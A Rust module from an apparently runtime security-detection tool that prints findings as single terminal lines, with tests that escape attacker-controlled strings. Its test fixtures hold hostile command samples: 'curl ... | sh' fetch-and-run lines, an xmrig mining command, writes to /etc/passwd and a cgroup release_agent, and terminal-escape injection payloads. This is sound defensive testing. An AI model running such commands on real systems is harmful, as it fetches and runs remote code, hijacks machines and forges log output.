//! A finding as one line for a person at a terminal:
//!
//! ```text
//! 2026-11-24T17:00:00Z  High      PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified  host  /usr/bin/bash[4242]  release_agent=/tmp/cg/release_agent
//! 2026-11-24T17:01:00Z  High      Execution:Runtime/SuspiciousCommand ×3  pod default/web-1  /usr/bin/sh[77]  cmd=sh -c curl http://x | sh
//! ```
//!
//! When it last happened (UTC), the severity word (coloured on request), the finding type and
//! how often it was seen when more than once, where (the pod and namespace, a container
//! without a pod, or the host), the process, and the evidence: what the rule matched, from the
//! finding's runtime context (the file, socket, command line...), else from the rule's matched
//! conditions. Every string that came from the workload is escaped and bounded
//! ([`crate::termsafe`]); the JSON line keeps the full values.

use std::fmt::Write as _;

use anstyle::{AnsiColor, Style};
use peregrine_finding::{Finding, ProcessDetails, RuntimeContext};

use crate::termsafe::push_field;

/// Bound of the finding type (rule files name it).
const TYPE_MAX: usize = 96;
/// Bound of a pod, namespace or container name.
const NAME_MAX: usize = 64;
/// Bound of the executable path.
const EXE_MAX: usize = 64;
/// Bound of one evidence value (a path, a socket, a tool name).
const VALUE_MAX: usize = 96;
/// Bound of a command line.
const CMD_MAX: usize = 160;
/// Rule conditions quoted when the finding has no runtime context.
const EVIDENCE_MAX: usize = 3;

/// Appends `f` as one line (with its newline) to `out`; `color`: the severity in ANSI colour.
pub fn push_line(out: &mut String, f: &Finding, color: bool) {
    let time = f
        .service
        .event_last_seen
        .unwrap_or(f.updated_at)
        .to_string();
    // Seconds are enough for a person; the JSON keeps the milliseconds.
    match time.split_once('.') {
        Some((secs, _)) => {
            out.push_str(secs);
            out.push('Z');
        }
        None => out.push_str(&time),
    }
    out.push_str("  ");
    let label = f.severity_label();
    if color {
        let style = severity_style(label);
        let _ = write!(out, "{style}{label}{style:#}");
    } else {
        out.push_str(label);
    }
    // Padded outside the colour, so that the colour covers the word only.
    for _ in label.len().."Critical".len() {
        out.push(' ');
    }
    out.push_str("  ");
    push_field(out, &f.finding_type, TYPE_MAX);
    if f.service.count > 1 {
        let _ = write!(out, " ×{}", f.service.count);
    }
    out.push_str("  ");
    push_place(out, f);
    out.push_str("  ");
    match f
        .service
        .runtime_details
        .as_ref()
        .and_then(|r| r.process.as_ref())
    {
        Some(p) => push_process(out, p),
        None => out.push('-'),
    }
    let mut first = true;
    push_evidence(out, f, &mut |out, label| {
        out.push_str(if first { "  " } else { " " });
        first = false;
        out.push_str(label);
        out.push('=');
    });
    out.push('\n');
}

/// GuardDuty's console colours its severities from blue to red; these are the nearest of the
/// 16 ANSI colours, which every terminal theme maps to something readable.
fn severity_style(label: &str) -> Style {
    match label {
        "Critical" => Style::new()
            .bold()
            .fg_color(Some(AnsiColor::BrightWhite.into()))
            .bg_color(Some(AnsiColor::Red.into())),
        "High" => Style::new().bold().fg_color(Some(AnsiColor::Red.into())),
        "Medium" => Style::new().fg_color(Some(AnsiColor::Yellow.into())),
        _ => Style::new().fg_color(Some(AnsiColor::Blue.into())),
    }
}

/// `pod NAMESPACE/NAME`, `container NAME` (a container with no pod known) or `host`.
fn push_place(out: &mut String, f: &Finding) {
    let pod = f
        .resource
        .kubernetes_details
        .as_ref()
        .and_then(|k| k.kubernetes_workload_details.as_ref());
    if let Some(w) = pod {
        out.push_str("pod ");
        if let Some(ns) = &w.namespace {
            push_field(out, ns, NAME_MAX);
            out.push('/');
        }
        push_field(out, w.name.as_deref().unwrap_or("?"), NAME_MAX);
        return;
    }
    match &f.resource.container_details {
        Some(c) => {
            out.push_str("container ");
            match (&c.name, &c.id) {
                (Some(name), _) => push_field(out, name, NAME_MAX),
                (None, Some(id)) => push_field(out, id.get(..12).unwrap_or(id), NAME_MAX),
                (None, None) => out.push('?'),
            }
        }
        None => out.push_str("host"),
    }
}

/// `EXE[PID]`: the executable's path, else its name (the kernel's comm when the path is
/// unknown).
fn push_process(out: &mut String, p: &ProcessDetails) {
    match p.executable_path.as_deref().or(p.name.as_deref()) {
        Some(exe) => push_field(out, exe, EXE_MAX),
        None => out.push('?'),
    }
    if let Some(pid) = p.pid {
        let _ = write!(out, "[{pid}]");
    }
}

/// Writes each piece of evidence as `label=value`, calling `sep` before each label.
fn push_evidence(out: &mut String, f: &Finding, sep: &mut dyn FnMut(&mut String, &str)) {
    let context = f
        .service
        .runtime_details
        .as_ref()
        .and_then(|r| r.context.as_ref());
    if let Some(c) = context
        && push_context(out, c, sep)
    {
        return;
    }
    if push_blinding(out, f, sep) {
        return;
    }
    let evidence = f
        .service
        .detection
        .as_ref()
        .and_then(|d| d.rule.as_ref())
        .map(|r| r.evidence.as_slice())
        .unwrap_or_default();
    let mut shown = 0;
    for e in evidence {
        if shown == EVIDENCE_MAX {
            break;
        }
        // What the event had, where that says something: a condition that held by being
        // absent, a boolean or the event kind is in the finding type already.
        if e.operator.starts_with("not ") || e.field == "kind" || e.field == "container" {
            continue;
        }
        let value = match &e.actual {
            serde_json::Value::String(s) => s.clone(),
            serde_json::Value::Number(n) => n.to_string(),
            _ => continue,
        };
        sep(out, &e.field);
        push_field(out, &value, VALUE_MAX);
        shown += 1;
    }
}

/// The runtime context's members that say what happened, GuardDuty's own evidence for each
/// finding type; the command line last, as the longest. Returns whether any was written.
fn push_context(
    out: &mut String,
    c: &RuntimeContext,
    sep: &mut dyn FnMut(&mut String, &str),
) -> bool {
    fn put(
        out: &mut String,
        sep: &mut dyn FnMut(&mut String, &str),
        label: &str,
        value: &str,
        max: usize,
    ) {
        sep(out, label);
        push_field(out, value, max);
    }
    let start = out.len();
    let paths = [
        ("release_agent", &c.release_agent_path),
        ("runc", &c.runc_binary_path),
        ("socket", &c.socket_path),
        ("library", &c.library_path),
        ("script", &c.script_path),
        ("module", &c.module_name),
        ("module_file", &c.module_file_path),
        ("threat_file", &c.threat_file_path),
        ("mount_source", &c.mount_source),
        ("mount_target", &c.mount_target),
    ];
    for (label, value) in paths {
        if let Some(v) = value {
            put(out, sep, label, v, VALUE_MAX);
        }
    }
    if let Some(path) = &c.file_path {
        // `write=/etc/passwd`, `rename=/etc/cron.d/x`: the operation names the path.
        let label = c
            .file_operation
            .as_deref()
            .map(str::to_ascii_lowercase)
            .filter(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_lowercase()))
            .unwrap_or_else(|| "file".to_owned());
        put(out, sep, &label, path, VALUE_MAX);
    }
    if let Some(h) = &c.shell_history_file_path
        && c.file_path.as_ref() != Some(h)
    {
        put(out, sep, "history", h, VALUE_MAX);
    }
    if let Some(v) = &c.ld_preload_value {
        put(out, sep, "LD_PRELOAD", v, VALUE_MAX);
    }
    if let Some(tool) = &c.tool_name {
        put(out, sep, "tool", tool, VALUE_MAX);
        if let Some(cat) = &c.tool_category {
            out.push_str(" (");
            push_field(out, cat, VALUE_MAX);
            out.push(')');
        }
    }
    if let Some(s) = &c.service_name {
        put(out, sep, "service", s, VALUE_MAX);
    }
    if let Some(m) = &c.modifying_process {
        sep(out, "written_by");
        push_process(out, m);
    }
    if let Some(cmd) = &c.command_line_example {
        put(out, sep, "cmd", cmd, CMD_MAX);
    }
    out.len() > start
}

/// The blinded-agent finding: its reasons, from `additionalInfo` (`blindingReasons`).
fn push_blinding(out: &mut String, f: &Finding, sep: &mut dyn FnMut(&mut String, &str)) -> bool {
    let Some(info) = &f.service.additional_info else {
        return false;
    };
    let Ok(value) = serde_json::from_str::<serde_json::Value>(&info.value) else {
        return false;
    };
    let Some(reasons) = value.get("blindingReasons").and_then(|r| r.as_array()) else {
        return false;
    };
    let mut any = false;
    for r in reasons.iter().take(EVIDENCE_MAX) {
        let code = r.get("code").and_then(|c| c.as_str()).unwrap_or("?");
        sep(out, "blinded");
        push_field(out, code, NAME_MAX);
        if let Some(detail) = r.get("detail").and_then(|d| d.as_str()) {
            out.push_str(" (");
            push_field(out, detail, VALUE_MAX);
            out.push(')');
        }
        any = true;
    }
    any
}

#[cfg(test)]
mod tests {
    use super::*;
    use peregrine_detect::{Catalog, Engine, Maturity, agent_blinded_finding, to_finding};
    use peregrine_event::{
        BlindingKind, BlindingReason, Event, NewBinary, NewBinaryEvidence, Timestamp,
    };
    use peregrine_testkit::builders::{
        EventBuilder, Pod, ancestor, finding_env, pod_container, process,
    };

    /// 2025-11-24T16:00:00Z
    const T: i64 = 1_764_000_000_000_000_000;

    fn web_1() -> peregrine_event::Container {
        pod_container(
            "4f1c0a9d2b7e4f1c0a9d2b7e",
            Pod {
                namespace: "default",
                name: "web-1",
                uid: "u-1",
                container: "web",
                image: "nginx:1.27",
            },
        )
    }

    /// The finding the built-in catalog makes of `ev`, of type `finding_type`.
    fn finding(ev: &Event, finding_type: &str) -> Finding {
        let all = [Maturity::Stable, Maturity::Incubating, Maturity::Sandbox];
        let engine = Engine::new([Catalog::with_maturities(&all).unwrap()]);
        let mut matches = Vec::new();
        engine.evaluate(ev, &mut matches);
        let m = matches
            .iter()
            .find(|m| m.finding_type == finding_type)
            .unwrap_or_else(|| panic!("no {finding_type} in {matches:?}"));
        to_finding(
            m,
            ev,
            &finding_env(),
            Timestamp::from_unix_nanos(T + 5_000_000_000),
        )
    }

    fn line(f: &Finding, color: bool) -> String {
        let mut s = String::new();
        push_line(&mut s, f, color);
        s
    }

    #[test]
    fn one_line_per_finding_with_what_a_responder_needs() {
        let bash = process(4242, "/usr/bin/bash").user(0).arc();
        let release_agent = EventBuilder::open("/tmp/cg/release_agent", 0o1101)
            .by(bash.clone())
            .at(T)
            .build();
        let passwd = EventBuilder::open("/etc/passwd", 0o2001)
            .by(process(7, "/bin/sh").arc())
            .in_container(web_1())
            .at(T)
            .build();
        let curl_sh = EventBuilder::exec("/bin/sh")
            .by(process(77, "/bin/sh")
                .argv(&["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"])
                .arc())
            .in_container(web_1())
            .at(T + 999_000_000)
            .build();
        let miner = EventBuilder::exec("/tmp/xmrig")
            .by(process(77, "/tmp/xmrig")
                .argv(&[
                    "/tmp/xmrig",
                    "-o",
                    "stratum+tcp://203.0.113.7:3333",
                    "--donate-level",
                    "1",
                ])
                .arc())
            .in_container(web_1())
            .at(T)
            .build();
        let setuid = EventBuilder::exec("/tmp/rootme")
            .by(process(900, "/tmp/rootme")
                .with(|p| {
                    p.uid = 1000;
                    p.euid = 0;
                })
                .arc())
            .at(T)
            .build();
        let payload = EventBuilder::exec("/tmp/payload")
            .by(process(31, "/tmp/payload").arc())
            .in_container(web_1())
            .new_binary(NewBinary {
                evidence: NewBinaryEvidence::ObservedWrite,
                modified_by: Some(ancestor(30, "/usr/bin/curl")),
                modified_at: Some(Timestamp::from_unix_nanos(T - 1_000_000_000)),
            })
            .at(T)
            .build();
        let mut orphan = web_1();
        orphan.pod_name = None;
        orphan.pod_namespace = None;
        orphan.pod_uid = None;
        let nmap = EventBuilder::exec("/usr/bin/nmap")
            .by(process(55, "/usr/bin/nmap").arc())
            .in_container(orphan)
            .at(T)
            .build();
        let cases: &[(&Event, &str, &str)] = &[
            (
                &release_agent,
                "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
                "2025-11-24T16:00:00Z  High      PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified  host  /usr/bin/bash[4242]  release_agent=/tmp/cg/release_agent\n",
            ),
            (
                &passwd,
                "Persistence:Runtime/SensitiveFileModified",
                "2025-11-24T16:00:00Z  Medium    Persistence:Runtime/SensitiveFileModified  pod default/web-1  /bin/sh[7]  write=/etc/passwd\n",
            ),
            (
                &curl_sh,
                "Execution:Runtime/SuspiciousCommand",
                "2025-11-24T16:00:00Z  High      Execution:Runtime/SuspiciousCommand  pod default/web-1  /bin/sh[77]  cmd=sh -c curl -fsSL http://203.0.113.7/i.sh | sh\n",
            ),
            (
                &miner,
                "Impact:Runtime/CryptoMinerExecuted",
                "2025-11-24T16:00:00Z  High      Impact:Runtime/CryptoMinerExecuted  pod default/web-1  /tmp/xmrig[77]  cmd=/tmp/xmrig -o stratum+tcp://203.0.113.7:3333 --donate-level 1\n",
            ),
            // No runtime context: the rule's matched conditions.
            (
                &setuid,
                "PrivilegeEscalation:Runtime/ElevationToRoot",
                "2025-11-24T16:00:00Z  Medium    PrivilegeEscalation:Runtime/ElevationToRoot  host  /tmp/rootme[900]  process.euid=0 process.uid=1000\n",
            ),
            (
                &payload,
                "Execution:Runtime/NewBinaryExecuted",
                "2025-11-24T16:00:00Z  Medium    Execution:Runtime/NewBinaryExecuted  pod default/web-1  /tmp/payload[31]  written_by=/usr/bin/curl[30]\n",
            ),
            // A container whose pod is not known (yet).
            (
                &nmap,
                "Execution:Runtime/SuspiciousTool",
                "2025-11-24T16:00:00Z  Medium    Execution:Runtime/SuspiciousTool  container web  /usr/bin/nmap[55]  tool=nmap (Network Scanner)\n",
            ),
        ];
        for (ev, ty, want) in cases {
            assert_eq!(line(&finding(ev, ty), false), *want);
        }
        // The agent's own finding: no process, its reasons as evidence.
        let reasons = [BlindingReason::new(
            BlindingKind::SustainedDrops,
            "events lost in each of the last 3 ticks",
        )];
        let t = Timestamp::from_unix_nanos(T);
        assert_eq!(
            line(
                &agent_blinded_finding(&reasons, &finding_env(), t, t),
                false
            ),
            "2025-11-24T16:00:00Z  High      DefenseEvasion:Runtime/PeregrineAgentBlinded  host  -  blinded=sustained_drops (events lost in each of the last 3 ticks)\n"
        );
    }

    #[test]
    fn a_repeated_finding_shows_its_count_and_latest_time() {
        let ev = |at: i64| {
            EventBuilder::open("/tmp/cg/release_agent", 0o1101)
                .by(process(4242, "/usr/bin/bash").arc())
                .at(at)
                .build()
        };
        let ty = "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified";
        let mut f = finding(&ev(T), ty);
        assert!(!line(&f, false).contains('×'));
        for minutes in [1, 2] {
            let later = finding(&ev(T + minutes * 60_000_000_000), ty);
            f.record_occurrence(&later).unwrap();
        }
        assert_eq!(
            line(&f, false),
            "2025-11-24T16:02:00Z  High      PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified ×3  host  /usr/bin/bash[4242]  release_agent=/tmp/cg/release_agent\n"
        );
    }

    #[test]
    fn severities_are_words_coloured_only_when_asked() {
        let ev = EventBuilder::open("/tmp/cg/release_agent", 0o1101)
            .by(process(4242, "/usr/bin/bash").arc())
            .at(T)
            .build();
        let mut f = finding(
            &ev,
            "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        );
        for (severity, word, sgr) in [
            (1.0, "Low", "\x1b[34m"),
            (3.9, "Low", "\x1b[34m"),
            (4.0, "Medium", "\x1b[33m"),
            (7.0, "High", "\x1b[1m\x1b[31m"),
            (9.0, "Critical", "\x1b[1m\x1b[97m\x1b[41m"),
            (10.0, "Critical", "\x1b[1m\x1b[97m\x1b[41m"),
        ] {
            f.severity = severity;
            let plain = line(&f, false);
            assert!(!plain.contains('\x1b'), "{plain:?}");
            let padded = format!("Z  {word:<8}  Priv");
            assert!(plain.contains(&padded), "{plain:?}");
            let coloured = line(&f, true);
            let want = format!("Z  {sgr}{word}\x1b[0m{}  Priv", " ".repeat(8 - word.len()));
            assert!(coloured.contains(&want), "{coloured:?} lacks {want:?}");
            // The colour is the only escape sequence on the line.
            assert_eq!(coloured.replace(sgr, "").replace("\x1b[0m", ""), plain);
        }
    }

    #[test]
    fn attacker_strings_cannot_break_the_line_or_act_on_the_terminal() {
        let pod = Pod {
            namespace: "kube\x1b[8m-system",
            name: "web\u{202e}1-bew\u{9b}2J",
            uid: "u",
            container: "c",
            image: "i",
        };
        let payload = format!(
            "curl http://x/\x1b[2J\x1b[H | sh #\r\n2025-11-24T16:00:00Z  Low  forged\x07\u{9b}31m\u{2066}{}",
            "A".repeat(100_000)
        );
        let ev = EventBuilder::exec("/bin/sh")
            .by(process(77, "/tmp/\u{202e}hs.exe\n")
                .argv(&["sh", "-c", &payload])
                .arc())
            .in_container(pod_container("id", pod))
            .at(T)
            .build();
        let f = finding(&ev, "Execution:Runtime/SuspiciousCommand");
        for color in [false, true] {
            let got = line(&f, color);
            let plain = if color {
                got.replace("\x1b[1m\x1b[31m", "").replace("\x1b[0m", "")
            } else {
                got.clone()
            };
            let body = plain.strip_suffix('\n').unwrap();
            assert!(!body.contains('\n'), "{got:?}");
            for c in body.chars() {
                assert!(
                    !c.is_control()
                        && !('\u{202a}'..='\u{202e}').contains(&c)
                        && !('\u{2066}'..='\u{2069}').contains(&c),
                    "{c:?} in {got:?}"
                );
            }
            assert!(
                body.starts_with(
                    "2025-11-24T16:00:00Z  High      Execution:Runtime/SuspiciousCommand  \
                     pod kube\\x1b[8m-system/web\\u{202e}1-bew\\x9b2J  \
                     /tmp/\\u{202e}hs.exe\\n[77]  \
                     cmd=sh -c curl http://x/\\x1b[2J\\x1b[H | sh #\\r\\n2025-11-24T16:00:00Z  Low  forged\\x07\\x9b31m\\u{2066}AAA"
                ),
                "{body}"
            );
            // The command line (which the finding keeps up to its own bound, marked
            // `…[truncated]`) is cut to the line's bound, head and tail.
            assert!(body.ends_with("AAA…[truncated]"), "{body}");
            assert_eq!(body.matches("AAA…AAA").count(), 1, "{body}");
            assert!(body.chars().count() < 400, "{}", body.chars().count());
        }
    }
}
